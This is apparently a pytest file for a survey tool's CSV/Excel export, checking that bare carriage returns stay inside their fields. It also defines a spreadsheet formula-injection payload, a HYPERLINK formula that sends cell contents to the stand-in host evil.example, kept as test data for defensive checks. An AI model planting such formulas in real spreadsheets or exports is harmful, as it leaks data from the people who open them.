"""Answers that could break or attack an export: bare CRs, formulas, control characters."""

from __future__ import annotations

import csv
from datetime import UTC, datetime

import pytest
from openpyxl import load_workbook

from surveyor.exports import ExportOptions, export
from surveyor.services.interviews import fill_interview
from tests.exports.conftest import base_answers

WHEN = datetime(2026, 11, 23, 9, 0, tzinfo=UTC)
FORMULA = '=HYPERLINK("http://evil.example/?d="&A2,"Cliquez ici")'


def add(store, library, form, **answers):
    """Finalize one more interview of the habitants form with ``answers`` changed."""
    values = base_answers()
    values.update(answers)
    result = fill_interview(
        library, form, values, finalize=True, interviewer="Fatima B.",
        device_id="collect:laptop-1", clock=lambda: WHEN,
    )
    assert result.ok, result.problems
    return result.interview


def read_csv(path):
    with open(path, encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))
    return rows[0], [dict(zip(rows[0], r, strict=True)) for r in rows[1:]]


def column(row, name):
    """The value of the column whose header ends with ``name``."""
    (value,) = [v for k, v in row.items() if k.split("-")[-1] == name]
    return value


def row_of(rows, interview):
    return next(r for r in rows if r["KEY"] == interview.instance_id)


@pytest.mark.parametrize("bom", [True, False])
def test_a_bare_carriage_return_stays_inside_its_field(filled, tmp_path, bom):
    store, library, form, interviews, _draft = filled
    odd = add(store, library, form, street="Rue\rdes Lilas", comments="un\rdeux\r\ntrois")
    out = tmp_path / "out"
    export(store, out, library=library, options=ExportOptions(excel_bom=bom))
    path = out / "enquete_habitants.csv"
    header, rows = read_csv(path)  # strict zip: a split row would fail here
    assert len(rows) == len(interviews) + 1
    row = row_of(rows, odd)
    assert row["household-street"] == "Rue\rdes Lilas"
    assert row["closing-comments"] == "un\rdeux\r\ntrois"
    assert row["FormVersion"] == odd.form_version  # the columns after it did not shift
    data = path.read_bytes()
    assert data.split(b"\n", 1)[0].endswith(b"FormVersion")  # records still end with \n
    assert data.endswith(b"\n") and not data.endswith(b"\r\n")
    assert b'"Rue\rdes Lilas"' in data
